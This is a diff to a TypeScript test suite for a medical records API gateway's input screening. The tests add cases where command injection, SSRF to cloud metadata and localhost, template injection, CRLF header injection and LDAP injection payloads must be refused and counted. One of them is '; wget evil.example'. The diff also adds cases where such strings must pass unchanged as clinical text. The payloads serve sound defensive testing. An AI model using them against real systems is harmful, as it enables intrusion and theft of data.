@@ -31,7 +31,7 @@ async function expectScreened(path: string, init: Parameters<TestGateway["call"]
     code: "request_screened",
     detail: "The request was refused.",
   });
-  expect(text, path).not.toMatch(/union|<script|sqli|xss|traversal|scanner/i);
+  expect(text, path).not.toMatch(/union|<script|sqli|xss|traversal|command|template|ssrf|protocol|scanner/i);
   expect(reached(), path).toBe(before);
 }
 
@@ -49,6 +49,12 @@ test("attacks in path, query names and values, headers and cookies are refused b
   await expectScreened("/docs", { headers: { "user-agent": "sqlmap/1.8" } });
   await expectScreened("/docs", { headers: { cookie: `a=b; theme=${ATTACK}` } });
   await expectScreened("/docs", { headers: { "x-forwarded-for": `127.0.0.1, ${MARKUP}` } });
+  await expectScreened("/docs", { headers: { cookie: "a=b; $(whoami)=1" } });
+  await expectScreened("/docs?q=%24%28whoami%29");
+  await expectScreened("/docs?url=http%3A%2F%2F169.254.169.254%2Flatest");
+  await expectScreened("/docs?user__password__startswith=a");
+  await expectScreened("/docs?user=*%29%28uid%3D*");
+  await expectScreened("/v1/patients/%24%7B7*7%7D");
 });
 
 test("attacks in structured fields are refused, at any depth and in names too; words to search for are structured", async () => {
@@ -62,10 +68,20 @@ test("attacks in structured fields are refused, at any depth and in names too; w
   await post("/v1/auth/login", { identifier: "admin'--", password: "x" });
   await post("/v1/patients", { givenName: "Ana", unknown: { deep: [{ deeper: ATTACK }] } });
   await post("/v1/patients", { [MARKUP]: 1 });
+  await post("/v1/patients/search", { q: "; wget evil.example" });
+  await post("/v1/patients/search", { q: "{{constructor}}" });
+  await post("/v1/patients/search", { q: "http://127.0.0.1:9200/" });
+  await post("/v1/patients/search", { q: "x\r\nSet-Cookie: a=b" });
 });
 
 test("clinical text, names, reasons and passwords pass to the letter, whatever they look like", async () => {
   const texts = [ATTACK, MARKUP, "../../etc/passwd", "BP <120, O'Brien; DROP TABLE x", "$ne", "{{7*7}}"];
+  texts.push(
+    "$(whoami); cat /etc/passwd | sh",
+    "http://169.254.169.254/",
+    "x\r\nSet-Cookie: a=b",
+    "*)(uid=*",
+  );
   const shared = new URL("../../../../../shared/data/", import.meta.url);
   if (existsSync(shared)) {
     for (const file of ["benign/fhir_strings", "payloads/sqli", "payloads/xss", "payloads/traversal"]) {
@@ -103,7 +119,16 @@ test("clinical text, names, reasons and passwords pass to the letter, whatever t
   }
 }, 60_000);
 
-test("names with quotes, SQL's words and half markup are found by search", async () => {
+test("a page that is served inside of the house may name itself", async () => {
+  for (const referer of [
+    "http://127.0.0.1:3000/docs",
+    "https://localhost/",
+    "http://10.0.0.7/patients?id=4&sort=name",
+  ])
+    expect((await edge.call("/docs", { headers: { referer } })).status, referer).toBe(200);
+});
+
+test("names with quotes, SQL's and the shell's words and half markup are found by search", async () => {
   for (const q of [
     "O'Brien",
     "D'Arcy; drop",
@@ -113,6 +138,30 @@ test("names with quotes, SQL's words and half markup are found by search", async
     "1=1 ratio",
     "BP <120",
     "<3",
+    ...[
+      "Cat Stevens",
+      "Ruby Bash",
+      "Ping Li",
+      "Id",
+      "May Curl",
+      "Perl",
+      "Python's",
+      "sleep apnea",
+      "Mount, Wall",
+    ],
+    ...[
+      "echo",
+      "find",
+      "who",
+      "top",
+      "less",
+      "kill",
+      "nice",
+      "cut",
+      "test -ve",
+      "Smith & Date",
+      "Head; neck",
+    ],
   ]) {
     const body = JSON.stringify({ q });
     const answer = await edge.call("/v1/patients/search", { method: "POST", as: doctor, body });
@@ -148,11 +197,18 @@ test("a hit is an event that says its kind, its address and how often, and nothi
   try {
     for (let i = 0; i < 3; i++) await own.call(`/docs?q=${encodeURIComponent(`${ATTACK} secret-mark`)}`);
     await own.call("/docs", { headers: { "user-agent": `${MARKUP} secret-mark` } });
+    await own.call("/docs?q=%3B%20whoami%20secret-mark");
+    await own.call("/docs?q=%24%7Bsecret-mark%7D");
+    await own.call("/docs?q=http%3A%2F%2F127.0.0.1%2Fsecret-mark");
+    await own.call("/docs?q=%29%28uid%3Dsecret-mark");
     await own.call("/docs", { headers: { "user-agent": "nikto secret-mark" } });
     await own.call("/v1/files/..%2f..%2fsecret-mark");
     await sendRaw(own.url, "GET / HTTP/1.1\r\nHost: x\r\nHost : y\r\n\r\n");
     const metrics = await metricsOf(own.gateway.app).metrics();
-    for (const [kind, count] of Object.entries({ sqli: 3, xss: 1, traversal: 1, scanner: 1 }))
+    for (const [kind, count] of Object.entries({
+      ...{ sqli: 3, xss: 1, traversal: 1, scanner: 1 },
+      ...{ command: 1, template: 1, ssrf: 1, protocol: 1 },
+    }))
       expect(metrics).toContain(`gateway_screening_hits_total{kind="${kind}"} ${count}`);
     await own.gateway.stop(); // sends what is gathered
     const get = { count: 100, ackmode: "ack_requeue_false", encoding: "auto" };
@@ -165,8 +221,12 @@ test("a hit is an event that says its kind, its address and how often, and nothi
       .map((event) => CloudEvent.parse(event));
     const hits = events.filter(({ type }) => type === "medvault.gateway.screening.hit.v1");
     expect(hits.map(({ data }) => [data.details?.kind, data.details?.count]).sort()).toEqual([
+      ["command", 1],
+      ["protocol", 1],
       ["scanner", 1],
       ["sqli", 3],
+      ["ssrf", 1],
+      ["template", 1],
       ["traversal", 1],
       ["xss", 1],
     ]);
